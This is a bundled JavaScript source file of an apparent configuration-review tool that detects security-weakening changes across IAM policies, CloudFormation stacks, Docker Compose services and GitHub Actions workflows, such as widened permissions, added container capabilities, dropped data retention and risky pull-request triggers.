var isStillDenied = (grant, statements) => grant.condition !== "" && statements.some((statement) => bindsTo({ ...grant, condition: "" }, statement));
var allowed = (statements) => statements.filter(({ effect }) => effect === "Allow");
var denied = (statements) => statements.filter(({ effect }) => effect === "Deny");
var WORST = ["public", "admin", "service", "escalation", "plain"];
var rankOf2 = (grant) => WORST.indexOf(powerOf(grant));
var pathTo = (name, property) => ["Resources", name, "Properties", property];
function widening({ pair, name, path: path27, before: before3, after, isNew, isGate: isGate2 }, grant, how) {
  const { principal, action: action2, resource: resource3, onDemand, line } = grant;
  const place2 = how.by === "deny" ? { before: before3, after } : { before: before3, after: after && { ...after, line, endLine: line } };
  const told5 = `${how.by} ${principal} ${action2} ${resource3}`;
  return {
    kind: "policy-widened",
    ...factAt(pair, path27.map(key), told5, place2),
    resource: name,
    principal,
    action: action2,
    on: resource3,
    power: isGate2 === true ? "plain" : powerOf(grant),
    onDemand,
    isNew,
    ...how
  };
}

// src/domains/config/cloudformation/stacks.ts
var HOLDS_DATA = /^AWS::(?:DynamoDB::(?:Global)?Table|RDS::DB(?:Instance|Cluster)|S3::Bucket|EFS::FileSystem|EC2::Volume|Redshift::Cluster|DocDB::DBCluster|Neptune::DBCluster|OpenSearchService::Domain|Elasticsearch::Domain|ElastiCache::ReplicationGroup|Cognito::UserPool|KMS::Key|Kinesis::Stream|MSK::Cluster|SecretsManager::Secret)$/;
function stackFacts(pair) {
  if (pair.before === void 0 || pair.after === void 0) return [];
  const kept2 = resourcesOf(pair.after);
  const head = pair.after.root;
  const resources = [...resourcesOf(pair.before)].flatMap(
    ([name, before3]) => resourceFact(pair, name, before3, kept2.get(name))
  );
  const exports = namesOf(pair.after.root);
  const outputs = [...namesOf(pair.before.root)].filter(([name]) => !exports.has(name)).map(
    ([name, before3]) => fact(pair, ["Outputs"], { what: "export-removed", name }, { before: before3, after: at(head, "Outputs") ?? head })
  );
  return [...resources, ...outputs, ...parameterFacts(pair, head)];
}
function parameterFacts(pair, head) {
  const removed2 = entriesOf(at(pair.before?.root, "Parameters")).filter(
    ([name2]) => at(head, "Parameters", name2) === void 0
  );
  const [[name, before3] = []] = removed2;
  if (name === void 0) return [];
  const names2 = removed2.map(([each]) => each);
  const sides = { before: before3, after: at(head, "Parameters") ?? head };
  const told5 = { what: "parameter-removed", name, others: names2.slice(1) };
  return [{ ...fact(pair, ["Parameters", name], told5, sides), key: `parameter-removed ${names2.join()}` }];
}
function resourceFact(pair, name, before3, after) {
  const type = textAt(before3, "Type") ?? "";
  if (!HOLDS_DATA.test(type)) return [];
  if (after !== void 0) {
    return POLICIES2.filter((policy4) => isKept(before3, policy4) && !isKept(after, policy4)).slice(0, 1).map((policy4) => retentionFact(pair, name, policy4, { before: before3, after }));
  }
  if (isKept(before3)) return [];
  const sides = { before: before3, after: at(pair.after?.root, "Resources") };
  return [fact(pair, ["Resources", name], { what: "data-removed", name, type }, sides)];
}
var isKept = (resource3, policy4 = "DeletionPolicy") => /^(?:Retain|Snapshot)/.test(textAt(resource3, policy4) ?? "");
var POLICIES2 = ["DeletionPolicy", "UpdateReplacePolicy"];
function retentionFact(pair, name, policy4, { before: before3, after }) {
  const [from3 = "", to = "unset"] = [textAt(before3, policy4), textAt(after, policy4)];
  const sides = { before: at(before3, policy4), after: at(after, policy4) ?? after };
  return fact(pair, ["Resources", name, policy4], { what: "retention-dropped", name, policy: policy4, from: from3, to }, sides);
}
var namesOf = (root) => new Map(
  entriesOf(at(root, "Outputs")).flatMap(([, output]) => {
    const name = textAt(output, "Export", "Name");
    return name === void 0 ? [] : [[name, output]];
  })
);
var fact = (pair, path27, said8, sides) => ({
  kind: "stack-changed",
  ...factAt(pair, path27.map(key), `${said8.what} ${said8.name}`, sides),
  ...said8
});

// src/domains/config/dialects/cloudformation.ts
var cloudformation_default = {
  name: "cloudformation",
  recognises: isTemplate,
  isObject: (keys) => keys.length === 2,
  closedKeys: (keys) => keys.length !== 1,
  owns: (setting) => isPolicySetting(setting) || setting.keys.length <= 2,
  facts: (pairs) => pairs.flatMap((pair) => [...policyFacts(pair), ...stackFacts(pair)])
};

// src/domains/config/algebra/capabilities.ts
var HOST_TAKING = /* @__PURE__ */ new Set([
  "ALL",
  "BPF",
  "DAC_READ_SEARCH",
  "SYS_ADMIN",
  "SYS_BOOT",
  "SYS_MODULE",
  "SYS_PTRACE",
  "SYS_RAWIO"
]);
var DEFAULT = /* @__PURE__ */ new Set([
  "AUDIT_WRITE",
  "CHOWN",
  "DAC_OVERRIDE",
  "FOWNER",
  "FSETID",
  "KILL",
  "MKNOD",
  "NET_BIND_SERVICE",
  "SETFCAP",
  "SETGID",
  "SETPCAP",
  "SETUID",
  "SYS_CHROOT"
]);
var capability = (name) => name.trim().toUpperCase().replace(/^CAP_/, "");
var takesHost = (name) => HOST_TAKING.has(capability(name));
function gainedCapabilities(before3, after) {
  const had = held(before3);
  if (had.has("ALL")) return [];
  const gained = [...new Set(after.added.map(capability))].filter((name) => !had.has(name));
  return gained.toSorted((a, b) => Number(takesHost(b)) - Number(takesHost(a)));
}
function keptCapabilities(before3, after) {
  const drops = new Set(after.dropped.map(capability));
  return drops.has("ALL") ? [] : [...new Set(before3.dropped.map(capability))].filter((name) => !drops.has(name));
}
function held({ added: added2, dropped }) {
  const drops = new Set(dropped.map(capability));
  const kept2 = drops.has("ALL") ? [] : [...DEFAULT].filter((name) => !drops.has(name));
  return /* @__PURE__ */ new Set([...kept2, ...added2.map(capability)]);
}

// src/domains/config/actions.ts
var CONTROL = /^(?:\{\{|\{%)[-+]?\s*(if|else if|else|end|with|range|for|elif|endif|endfor)\b\s*([\s\S]*?)\s*[-+]?(?:\}\}|%\})$/;
var LONGEST_CONDITION = 1e3;
function* actions(text) {
  const open = /\{\{|\{%|(?<!\$)\{#/g;
  const endless = /* @__PURE__ */ new Set();
  for (let found = open.exec(text); found !== null; found = open.exec(text)) {
    const start = found.index;
    const mark2 = found[0] === "{{" ? "}}" : `${found[0].slice(1)}}`;
    const end = endless.has(mark2) ? void 0 : endOf(text, start, mark2);
    if (end === void 0) {
      endless.add(mark2);
      continue;
    }
    const action2 = text.slice(start, end);
    const [, word, condition2] = action2.length < LONGEST_CONDITION && CONTROL.exec(action2) || [];
    yield { start, end, word, condition: condition2 };
    open.lastIndex = end;
  }
}
function* actionsByLine(text) {
  let [line, rest] = [1, 0];
  for (const action2 of actions(text)) {
    line += text.slice(rest, action2.start).split("\n").length - 1;
    rest = action2.start;
    yield { ...action2, line };
  }
}
var QUOTED = /"(?:[^"\\\n]|\\.){0,300}"|'(?:[^'\\\n]|\\.){0,300}'|`[^`]{0,2000}`/y;
function endOf(text, start, mark2) {
  const first = text.indexOf(mark2, start + 2);
  if (first < 0) return void 0;
  const isComment = mark2 === "#}" || /^\{\{-?\s?\/\*/.test(text.slice(start, start + 6));
  return (isComment ? first : endOfQuoting(text, start + 2, mark2) ?? first) + 2;
}
function endOfQuoting(text, from3, mark2) {
  for (let at3 = from3; at3 < from3 + LONGEST_ACTION; at3++) {
    if (text.startsWith(mark2, at3)) return at3;
    if (!QUOTES.has(text.charAt(at3))) continue;
    QUOTED.lastIndex = at3;
    const [quoted] = QUOTED.exec(text) ?? [];
    if (quoted === void 0) return void 0;
    at3 += quoted.length - 1;
  }
  return void 0;
}
var QUOTES = /* @__PURE__ */ new Set(['"', "'", "`"]);
var LONGEST_ACTION = 4e3;

// src/domains/config/guards.ts
var OPENS = /^(if|with|range|for|define|block)\b\s*([\s\S]*)$/;
var TURNS = /^(?:else|elif)\b\s*(?:if\b\s*)?([\s\S]*)$/;
var CLOSES = /^end(?:if|for|block)?\b/;
function guardsIn(text) {
  const guards2 = [];
  const open = [];
  const close = (to) => {
    const last = open.pop();
    if (last !== void 0) guards2.push({ ...last, to });
    return last;
  };
  for (const { words: words2, line } of actionsIn(text)) {
    const [, opened2, condition2 = ""] = OPENS.exec(words2) ?? [];
    const [, otherwise] = TURNS.exec(words2) ?? [];
    if (opened2 !== void 0) open.push(opening(opened2, condition2, line));
    else if (otherwise !== void 0) {
      const last = close(line);
      open.push(otherwise === "" ? opposite(last, line) : opening("if", otherwise, line));
    } else if (CLOSES.test(words2)) close(line);
  }
  return guards2;
}
function* actionsIn(text) {
  for (const { start, end, line } of actionsByLine(text)) {
    const words2 = text.slice(start + 2, end - 2).replace(/^-|-$/g, "");
    yield { words: words2.trim(), line };
  }
}
var MUST_BE_SET = /^(?:and\s)?[\s()\w.$]*\.\w[\s()\w.$]*$/;
var MAY_BE_UNSET = /\b(?:not|or|eq|ne|lt|le|gt|ge|default|coalesce|ternary|empty|hasKey|contains)\b/;
function opening(word, words2, from3) {
  if (word !== "if" && word !== "with") return void 0;
  const condition2 = words2.replace(/\s+/g, " ");
  return { condition: condition2, asks: mustAllBeSet(condition2) || setOperands(condition2) !== void 0 ? "set" : "other", from: from3 };
}
var mustAllBeSet = (condition2) => MUST_BE_SET.test(condition2) && !MAY_BE_UNSET.test(condition2);
var BRACKETS = /\((?:[^()"]|"[^"]*"|\((?:[^()"]|"[^"]*")*\))*\)/g;
var LONGEST2 = 1e3;
var OPERAND = /^\$?\.\w[\w.]*$/;
function setOperands(condition2) {
  if (condition2.length > LONGEST2) return void 0;
  const [, within4, alone2] = /^(?:\(and (.*)\)|and (.*))$/.exec(condition2) ?? [];
  const operands = within4 ?? alone2;
  const plain2 = operands?.replaceAll(BRACKETS, " ").trim().split(/\s+/) ?? [];
  return plain2.length > 0 && plain2.every((each) => OPERAND.test(each)) ? `and ${plain2.join(" ")}` : void 0;
}
function opposite(branch, from3) {
  if (branch === void 0) return void 0;
  const { condition: condition2 } = branch;
  return { condition: `not ${condition2}`, asks: mustAllBeSet(condition2) ? "unset" : "other", from: from3 };
}
function guardBetween(guards2, owner, node) {
  if (owner === void 0 || node === void 0) return void 0;
  return guards2.find(({ from: from3, to }) => from3 <= node.line && node.line <= to && owner.line < from3);
}
var isAlwaysOn = (document, owner, node) => switchOf(node) === true && guardBetween(document?.guards ?? [], owner, node) === void 0;
var isOfTopic = ({ condition: condition2 }, name) => wordsOf(name).some((word) => word.length > 2 && wordsOf(condition2).includes(word));
var VALUE = /(?<![\w.)])\$?\.Values((?:\.\w+)+)/g;
function holdsWith(condition2, values3) {
  if (condition2.startsWith("not ")) return false;
  const named4 = [...(setOperands(condition2) ?? condition2).matchAll(VALUE)].map(
    ([, keys = ""]) => at(values3, ...keys.slice(1).split("."))
  );
  return named4.length > 0 && named4.every(isTrue);
}
function isTrue(node) {
  if (node === void 0) return false;
  if (node.kind !== "scalar") return (node.kind === "map" ? node.entries.size : node.items.length) > 0;
  return node.value !== null && node.text !== "" && (typeof node.value === "string" || switchOf(node) !== false);
}

// src/domains/config/effective.ts
var EFFECTIVE = "(effective)";
var isEffectiveSetting = ({ keys }) => keys[0] === EFFECTIVE;
var isEffective = (name) => ({ keys }) => keys[0] === EFFECTIVE && keys[1] === name;
function effectiveSetting({ document, before: before3, after }, name, path27, sides) {
  return {
    document,
    path: path27,
    keys: [EFFECTIVE, name],
    name,
    before: sides.before,
    after: sides.after,
    ownerBefore: before3?.node,
    ownerAfter: after.node,
    inSchema: false,
    isNested: false,
    owner: before3 === void 0 ? "born" : "kept"
  };
}
var derived = (node, text) => ({
  kind: "scalar",
  text,
  value: text,
  line: node.line,
  endLine: node.endLine,
  contentLine: node.line,
  size: 1,
  depth: 1
});
function capabilitySettings(pair, listsOf, pathTo2) {
  const [old, now] = [pair.before && listsOf(pair.before), listsOf(pair.after)];
  const { before: base, after: head } = pair.document;
  const hadAll = isAlwaysOn(base, pair.before?.node, old?.privileged);
  const addsCount = !hadAll && !isAlwaysOn(head, pair.after.node, now.privileged);
  const [before3, after] = [named(old, addsCount), named(now, addsCount)];
  const one = (list, sides) => effectiveSetting(pair, `capabilities.${list}`, pathTo2(list), sides);
  return [
    ...gainedCapabilities(before3, after).map((name) => one("add", { after: after.add.get(name) })),
    ...gainedCapabilities(after, before3).map((name) => one("add", { before: before3.add.get(name) })),
    ...keptCapabilities(before3, after).map((name) => one("drop", { before: before3.drop.get(name) })),
    ...keptCapabilities(after, before3).map((name) => one("drop", { after: after.drop.get(name) }))
  ];
}
function named(lists, withAdded) {
  const [add, drop] = [byCapability(withAdded ? lists?.add ?? [] : []), byCapability(lists?.drop ?? [])];
  return { add, drop, added: [...add.keys()], dropped: [...drop.keys()] };
}
var byCapability = (nodes) => new Map(nodes.flatMap((node) => node.kind === "scalar" && !isDynamic(node) ? [[capability(node.text), node]] : []));
var uncoveredPaths = (known2, fresh) => fresh.filter(({ path: path27 }) => !known2.some((wider) => path27 === wider.path || isBelow2(path27, wider.path)));
var isBelow2 = (path27, directory) => path27.startsWith(`${directory.replace(/\/$/, "")}/`);

// src/domains/config/pairing.ts
var MOST_COMPARISONS2 = 1e4;
function pairByLikeness(before3, after, nodeOf, least) {
  const few = before3.length * after.length <= MOST_COMPARISONS2;
  const candidates = (few ? before3 : []).flatMap((old) => after.map((now) => ({ old, now, score: likeness(nodeOf(old), nodeOf(now)) }))).filter(({ score }) => score >= least);
  const taken = /* @__PURE__ */ new Set();
  const partners = /* @__PURE__ */ new Map();
  for (const { old, now } of candidates.toSorted((a, b) => b.score - a.score)) {
    if (taken.has(old) || partners.has(now)) continue;
    taken.add(old);
    partners.set(now, old);
  }
  return [
    ...after.map((now) => withPartner(now, partners.get(now))),
    ...before3.filter((old) => !taken.has(old)).map((old) => ({ before: old }))
  ];
}
var withPartner = (after, before3) => before3 === void 0 ? { after } : { before: before3, after };
var RENAMED = 0.6;
function pairNamed(before3, after) {
  const { matched, removed: removed2, added: added2 } = compare(before3, after, ({ name }) => name);
  const old = new Map(matched.map((pair) => [pair.after, pair.before]));
  for (const pair of pairByLikeness(removed2, added2, ({ node }) => node, RENAMED))
    if (pair.before && pair.after) old.set(pair.after, pair.before);
  return after.map((now) => ({ before: old.get(now), after: now }));
}

// src/domains/config/compose/model.ts
var NAME = /(?:^|\/)(?:docker-)?compose[^/]*\.ya?ml$/;
var SERVICE_KEYS = ["image", "build", "extends"];
function isCompose({ path: path27, root }) {
  const services = entriesOf(at(root, "services"));
  if (services.length === 0 || at(root, "apiVersion") !== void 0) return false;
  return NAME.test(path27) || services.every(([, node]) => SERVICE_KEYS.some((name) => at(node, name) !== void 0));
}
var servicesOf = (document) => entriesOf(at(document?.root, "services")).map(([name, node]) => ({ name, node }));
var servicePairs = (document) => pairNamed(servicesOf(document.before), servicesOf(document.after)).map((pair) => ({ document, ...pair }));
var servicePath = ({ name }, ...below6) => ["services", name, ...below6].map(key);
function usersOfVolume({ before: before3, after }, volume4) {
  const still = new Set(servicesOf(after).map(({ name }) => name));
  const mounts = (mount2) => textAt(mount2, "source") === volume4 || textsOf(mount2).some((text) => text.startsWith(`${volume4}:`));
  return servicesOf(before3).filter(({ name, node }) => still.has(name) && itemsAt(node, "volumes").some(mounts)).map(({ name }) => name);
}
var inService = (...tail2) => ({ keys, document }) => document.dialect === "compose" && keys.length === 2 + tail2.length && keys[0] === "services" && tail2.every((name, i) => keys[2 + i] === name);

// src/domains/config/compose/effective.ts
var composeSettings = (document) => servicePairs(document).flatMap((pair) => [
  ...capabilitySettings(
    pair,
    ({ node }) => ({
      add: itemsAt(node, "cap_add"),
      drop: itemsAt(node, "cap_drop"),
      privileged: at(node, "privileged")
    }),
    (list) => servicePath(pair.after, `cap_${list}`)
  ),
  ...ports(pair),
  ...binds(pair),
  ...devices(pair),
  ...namedVolumes(pair)
]);
function ports(pair) {
  const path27 = servicePath(pair.after, "ports");
  const [before3, after] = [publishedBy(pair.before), publishedBy(pair.after)];
  const opened2 = openOnlyIn(after, before3);
  const shut = openOnlyIn(before3, after);
  const [was, is] = opened2.length === 1 && shut.length === 1 ? [shut[0], opened2[0]] : [];
  const widened3 = opened2.map(({ port, node }) => ({
    before: (before3.find((old) => old.port === port) ?? was)?.node,
    after: node
  }));
  const narrowed = shut.map(({ port, node }) => ({
    before: node,
    after: (after.find((now) => now.port === port) ?? is)?.node
  }));
  return [...widened3, ...narrowed].map((sides) => effectiveSetting(pair, "ports", path27, sides));
}
var openOnlyIn = (side2, other) => side2.filter(({ port, isLocal: isLocal2 }) => !isLocal2 && !other.some((each) => each.port === port && !each.isLocal));
var publishedBy = (service6) => itemsAt(service6?.node, "ports").flatMap((node) => node.kind === "map" ? longPort(node) : shortPort(node));
function longPort(node) {
  const port = textAt(node, "published");
  if (port === void 0) return [];
  const host = textAt(node, "host_ip") ?? "";
  const shown4 = host === "" ? port : `${host}:${port}`;
  return [
    { port: `${port}/${textAt(node, "protocol") ?? "tcp"}`, isLocal: isLoopback(host), node: derived(node, shown4) }
  ];
}
function shortPort(node) {
  if (node.kind !== "scalar") return [];
  const text = withDefaults(node.text);
  const [, address = "", port, protocol = "tcp"] = /^(?:(\[[^\]]*\]|[\d.]+):)?(\d+(?:-\d+)?|\$\w+|\$\{\w+\}):\d+(?:-\d+)?(?:\/(\w+))?$/.exec(text) ?? [];
  if (port === void 0) return [];
  return [{ port: `${port}/${protocol}`, isLocal: isLoopback(address), node: derived(node, text) }];
}
var withDefaults = (text) => text.replace(/\$\{\w+:?-([^{}$]*)\}/g, "$1");
var isLoopback = (address) => /^(?:127\.|\[?::1\]?$|localhost$)/.test(address);
var mounted = (bind) => derived(bind.node, bind.path);
function binds(pair) {
  const path27 = servicePath(pair.after, "volumes");
  const [before3, after] = [bindsOf(pair.before), bindsOf(pair.after)];
  const writable = after.flatMap((now) => {
    const old = before3.find((each) => each.path === now.path);
    const sides = old && {
      before: derived(old.node, String(old.isReadOnly)),
      after: derived(now.node, String(now.isReadOnly))
    };
    return sides ? [effectiveSetting(pair, "hostPath.readOnly", path27, sides)] : [];
  });
  return [
    ...uncoveredPaths(before3, after).map((bind) => effectiveSetting(pair, "hostPath", path27, { after: mounted(bind) })),
    ...uncoveredPaths(after, before3).map((bind) => effectiveSetting(pair, "hostPath", path27, { before: mounted(bind) })),
    ...writable
  ];
}
var bindsOf = (service6) => itemsAt(service6?.node, "volumes").flatMap((node) => {
  if (node.kind === "map") {
    const path28 = textAt(node, "source") ?? "";
    return path28.startsWith("/") ? [{ path: path28, isReadOnly: switchOf(at(node, "read_only")) === true, node }] : [];
  }
  if (node.kind !== "scalar" || isDynamic(node) || !node.text.startsWith("/")) return [];
  const [path27 = "", target, mode = ""] = node.text.split(":");
  return target === void 0 ? [] : [{ path: path27, isReadOnly: mode.split(",").includes("ro"), node }];
});
function devices(pair) {
  const had = new Set(itemsAt(pair.before?.node, "devices").map((node) => node.kind === "scalar" ? node.text : ""));
  return itemsAt(pair.after.node, "devices").filter((node) => node.kind === "scalar" && !had.has(node.text)).map((after) => effectiveSetting(pair, "devices", servicePath(pair.after, "devices"), { after }));
}
function namedVolumes(pair) {
  const unnamed = itemsAt(pair.after.node, "volumes").filter((node) => isUnnamed(node));
  return itemsAt(pair.before?.node, "volumes").flatMap((node) => {
    const target = targetOf(node);
    const after = unnamed.find((each) => target !== void 0 && targetOf(each) === target);
    if (after === void 0 || !isNamed(node)) return [];
    return [
      effectiveSetting(pair, "volume name", servicePath(pair.after, "volumes"), {
        before: derived(node, "named"),
        after: derived(after, "unnamed")
      })
    ];
  });
}
var isUnnamed = (node) => node.kind === "map" ? textAt(node, "type") === "volume" && textAt(node, "source") === void 0 : node.kind === "scalar" && /^\/[^:]*$/.test(node.text);
var isNamed = (node) => node.kind === "map" ? textAt(node, "type") === "volume" && textAt(node, "source") !== void 0 : node.kind === "scalar" && /^[\w-]+:\//.test(node.text);
var targetOf = (node) => node.kind === "scalar" ? node.text.split(":")[1] ?? node.text : textAt(node, "target");

// src/domains/config/dialects/compose.ts
var compose_default = {
  name: "compose",
  recognises: isCompose,
  isObject: (keys) => keys.length === 2 && OBJECTS.has(keys[0] ?? ""),
  closedKeys: (keys) => keys[0] === "services" && keys.length === 2,
  owns: (setting) => setting.keys[0] === "services" && OWNED.has(setting.keys[2] ?? "") && !isEffectiveSetting(setting),
  effective: composeSettings
};
var OBJECTS = /* @__PURE__ */ new Set(["configs", "networks", "secrets", "services", "volumes"]);
var OWNED = /* @__PURE__ */ new Set(["cap_add", "cap_drop", "devices", "ports", "volumes"]);

// src/domains/config/workflows/model.ts
var isWorkflow = ({ root, path: path27 }) => at(root, "jobs")?.kind === "map" && (at(root, "on") !== void 0 || /(?:^|\/)\.github\/workflows\//.test(path27));
var isAction = ({ root, path: path27 }) => /(?:^|\/)action\.ya?ml$/.test(path27) && at(root, "runs", "using") !== void 0;
function triggersOf(document) {
  const on3 = at(document?.root, "on");
  if (on3 === void 0) return /* @__PURE__ */ new Map();
  if (on3.kind === "map") return on3.entries;
  const events = on3.kind === "list" ? on3.items : [on3];
  return new Map(events.flatMap((event) => textsOf(event).map((name) => [name, event])));
}
var jobsOf = (document) => entriesOf(at(document?.root, "jobs")).map(([name, node]) => ({ name, node, steps: stepsOf(node) }));
var allSteps = (document) => [
  ...jobsOf(document).flatMap(({ steps: steps2 }) => steps2),
  ...stepsOf(at(document?.root, "runs"))
];
var stepsOf = (owner) => itemsAt(owner, "steps").map((node, index) => ({
  label: stepIdentity(node)?.value ?? `${index}`,
  isNamed: stepIdentity(node) !== void 0,
  node,
  uses: usesOf(node)
}));
var usesOf = (node) => textAt(node, "uses")?.replace(/@.*$/, "");
function stepIdentity(node) {
  for (const name of ["id", "name"]) {
    const value = textAt(node, name);
    if (value !== void 0) return { key: name, value };
  }
  const uses = usesOf(node);
  return uses === void 0 ? void 0 : { key: "uses", value: uses };
}
function mentions(node, isSuch) {
  if (node.kind === "scalar") return isSuch(node.text);
  return (node.kind === "list" ? node.items : [...node.entries.values()]).some((inner) => mentions(inner, isSuch));
}
var jobPath = (job4, ...below6) => ["jobs", job4, ...below6].map(key);

// src/domains/config/own/workflows.ts
var EVENTS = ["pull_request", "pull_request_target"];
var runsReview = ({ node, uses }) => /(?:^|\/)breakwater$/.test(uses ?? "") || /\bbreakwater review\b/.test(textAt(node, "run") ?? "");
var isReview = ({ node, steps: steps2 }) => steps2.some(runsReview) || /(?:^|\/)breakwater\.ya?ml$/.test(usesOf(node) ?? "");
var reviewsIn = (document) => jobsOf(document).filter(isReview);
var isInReview = ({ document, keys: [top, name] }) => top === "jobs" && [document.before, document.after].flatMap(reviewsIn).some((job4) => job4.name === name);
var ranReview = ({ before: before3 }) => reviewsIn(before3).length > 0;
function reviewFacts(pairs) {
  const arrives = pairs.some(({ before: before3, after }) => reviewsIn(before3).length === 0 && reviewsIn(after).length > 0);
  return pairs.flatMap((pair) => {
    const [old, now] = [reviewsIn(pair.before)[0], reviewsIn(pair.after)];
    if (old === void 0) return [];
    const same = now.find(({ name }) => name === old.name) ?? now[0];
    if (same === void 0) return arrives ? [] : [gone(pair, old)];
    const ways = [...triggerWays(pair, old), ...jobWays(pair, old, same)];
    return ways.length > 0 ? ways : edited(pair, old, same);
  });
}
function fact2(pair, path27, said8, sides) {
  const { job: job4, way, value = "" } = said8;
  return { kind: "review-weakened", ...factAt(pair, path27, way, sides), job: job4, way, value };
}
var gone = (pair, { name, node }) => fact2(pair, jobPath(name), { job: name, way: "gone" }, { before: node, after: at(pair.after?.root, "jobs") });
var FILTERS = ["paths", "paths-ignore", "branches", "branches-ignore"];
function triggerWays(pair, { name: job4 }) {
  const [had, has2] = [triggersOf(pair.before), triggersOf(pair.after)];
  const [event] = EVENTS.filter((one) => had.has(one));
  const kept2 = EVENTS.find((one) => has2.has(one));
  if (event === void 0) return [];
  const on3 = { before: had.get(event), after: at(pair.after?.root, "on") };
  if (kept2 === void 0) return [fact2(pair, [key("on"), key(event)], { job: job4, way: "untriggered", value: event }, on3)];
  return FILTERS.flatMap((filter) => {
    const [before3, after] = [at(had.get(event), filter), at(has2.get(kept2), filter)];
    if (after === void 0 || before3 !== void 0) return [];
    return [fact2(pair, [key("on"), key(kept2), key(filter)], { job: job4, way: "filtered", value: filter }, { after })];
  });
}
var ALWAYS = /^(?:\$\{\{)?\s*(?:always\(\)|!\s*cancelled\(\)|true)\s*(?:\}\})?$/;
var WEAKNESSES = [
  {
    way: "skipped",
    keys: ["if"],
    isWeak: (node) => node.kind === "scalar" && !ALWAYS.test(node.text)
  },
  { way: "ignored", keys: ["continue-on-error"], isWeak: (node) => switchOf(node) !== false },
  { way: "toothless", keys: ["with", "fail-on"], isWeak: (node) => node.kind === "scalar" && node.text === "never" }
];
function jobWays(pair, old, now) {
  const holders2 = [
    { before: old.node, after: now.node, path: jobPath(now.name) },
    { ...stepSides(old, now), path: [...jobPath(now.name), key("steps")] }
  ];
  return holders2.flatMap(
    ({ before: before3, after, path: path27 }) => WEAKNESSES.flatMap(({ way, keys, isWeak }) => {
      const [was, is] = [at(before3, ...keys), at(after, ...keys)];
      if (is === void 0 || !isWeak(is) || was !== void 0 && signature(was) === signature(is)) return [];
      const value = is.kind === "scalar" ? is.text : "";
      return [fact2(pair, [...path27, ...keys.map(key)], { job: now.name, way, value }, { before: was, after: is })];
    })
  );
}
var stepSides = (old, now) => ({
  before: old.steps.find(runsReview)?.node,
  after: now.steps.find(runsReview)?.node
});
var REACHING = ["on", "permissions", "env", "defaults", "concurrency"];
function edited(pair, old, now) {
  if (reach(pair.before, old) === reach(pair.after, now)) return [];
  const sides = { before: old.node, after: now.node };
  return [fact2(pair, jobPath(now.name), { job: now.name, way: "edited" }, sides)];
}
var reach = (document, { node }) => [node, ...REACHING.map((name) => at(document?.root, name))].map((each) => each && signature(each)).join("\n");

// src/domains/config/algebra/lattices.ts
var POD_SECURITY = ["restricted", "baseline", "privileged"];
var SERVICE_REACH = ["ClusterIP", "NodePort", "LoadBalancer"];
var MUTUAL_TLS = ["STRICT", "PERMISSIVE", "DISABLE"];
var CLIENT_TLS = ["MUTUAL", "ISTIO_MUTUAL", "SIMPLE", "DISABLE"];
var PERMISSION_LEVEL = ["none", "read", "write"];
var TLS_MODES = [
  "disable",
  "allow",
  "prefer",
  "permissive",
  "require",
  "verify-ca",
  "verify-full",
  "strict"
];
function steps(order, from3, to) {
  const [before3, after] = [order.indexOf(from3), order.indexOf(to)];
  return before3 < 0 || after < 0 ? void 0 : after - before3;
}

// src/domains/config/algebra/workflow-permissions.ts
var REACHES = ["everything", "strong", "moderate", "weak", "read"];
var STRONG = /* @__PURE__ */ new Set([
  "actions",
  "attestations",
  "contents",
  "deployments",
  "id-token",
  "issues",
  "packages",
  "pages",
  "pull-requests",
  "workflows"
]);
var WEAK = /* @__PURE__ */ new Set(["models", "security-events", "statuses"]);
function permissions(written2) {
  if (written2 === void 0) return void 0;
  if (typeof written2 !== "string") return { others: "none", scopes: written2 };
  const level3 = /^(read|write)-all$/.exec(written2)?.[1];
  return level3 === void 0 ? void 0 : { others: level3, scopes: /* @__PURE__ */ new Map() };
}
function raised(before3, after) {
  const all = rise("*", before3.others, after.others);
  const named4 = [.../* @__PURE__ */ new Set([...before3.scopes.keys(), ...after.scopes.keys()])].flatMap(
    (scope) => rise(scope, levelOf(before3, scope), levelOf(after, scope))
  );
  return (all.length > 0 ? all : named4).toSorted((a, b) => REACHES.indexOf(a.reach) - REACHES.indexOf(b.reach));
}
var levelOf = ({ others, scopes }, scope) => scopes.get(scope) ?? others;
var rise = (scope, from3, to) => (steps(PERMISSION_LEVEL, from3, to) ?? 0) > 0 ? [{ scope, from: from3, to, reach: reachOf(scope, to) }] : [];
function reachOf(scope, to) {
  if (to !== "write") return "read";
  if (scope === "*") return "everything";
  if (STRONG.has(scope)) return "strong";
  return WEAK.has(scope) ? "weak" : "moderate";
}

// src/domains/config/workflows/triggers.ts
var DANGEROUS = ["pull_request_target", "workflow_run", "issue_comment"];
var STRANGE_REF = /github\.head_ref|github\.event\.(?:pull_request\.head\.|workflow_run\.head_)|refs\/pull\/|github\.event\.(?:issue|pull_request)\.number/;
var isStartedByStrangers = (document) => [...triggersOf(document).keys()].some((event) => DANGEROUS.includes(event));
var path = (event) => [key("on"), key(event)];
function triggerFacts(pair) {
  const { before: before3, after } = pair;
  if (after === void 0) return [];
  const [had, has2] = [triggersOf(before3), triggersOf(after)];
  const [old, now] = [untrustedCheckout(before3), untrustedCheckout(after)];
  const added2 = DANGEROUS.filter((event) => has2.has(event) && !had.has(event) && !onlyLabels(after)).map(
    (trigger) => ({
      kind: "trigger-added",
      ...factAt(pair, path(trigger), "added", { before: at(before3?.root, "on"), after: has2.get(trigger) }),
      trigger,
      checksOut: now !== void 0,
      isBare: isBare(after),
      isNew: before3 === void 0
    })
  );
  const removed2 = DANGEROUS.filter((event) => had.has(event) && !has2.has(event)).map((trigger) => ({
    kind: "trigger-removed",
    ...factAt(pair, path(trigger), "removed", { before: had.get(trigger), after: at(after.root, "on") }),
    trigger
  }));
  const standing = DANGEROUS.find((event) => had.has(event) && has2.has(event));
  if (added2.length > 0 || standing === void 0 || now === void 0 || old !== void 0)
    return [...added2, ...removed2];
  const where = factAt(pair, ["jobs", "steps", "ref"].map(key), "untrusted", { after: now });
  return [{ kind: "untrusted-checkout", ...where, trigger: standing, isBare: isBare(after) }, ...removed2];
}
var GATES = ["merge_group", "pull_request", "push", "schedule"];
function gateSettings(document) {
  const { before: before3, after } = document;
  const on3 = at(after?.root, "on");
  if (before3 === void 0 || after === void 0 || on3 === void 0) return [];
  const [had, has2] = [triggersOf(before3), triggersOf(after)];
  if (DANGEROUS.some((event) => has2.has(event) && !had.has(event))) return [];
  const owners = { document, before: { node: before3.root }, after: { node: on3 } };
  return GATES.map((event) => ({
    ...effectiveSetting(owners, "gate", path(event), { before: had.get(event), after: has2.get(event) }),
    name: event
  }));
}
var onlyLabels = (document) => {
  const steps2 = allSteps(document);
  return steps2.length > 0 && steps2.every(({ uses }) => uses === "actions/labeler");
};
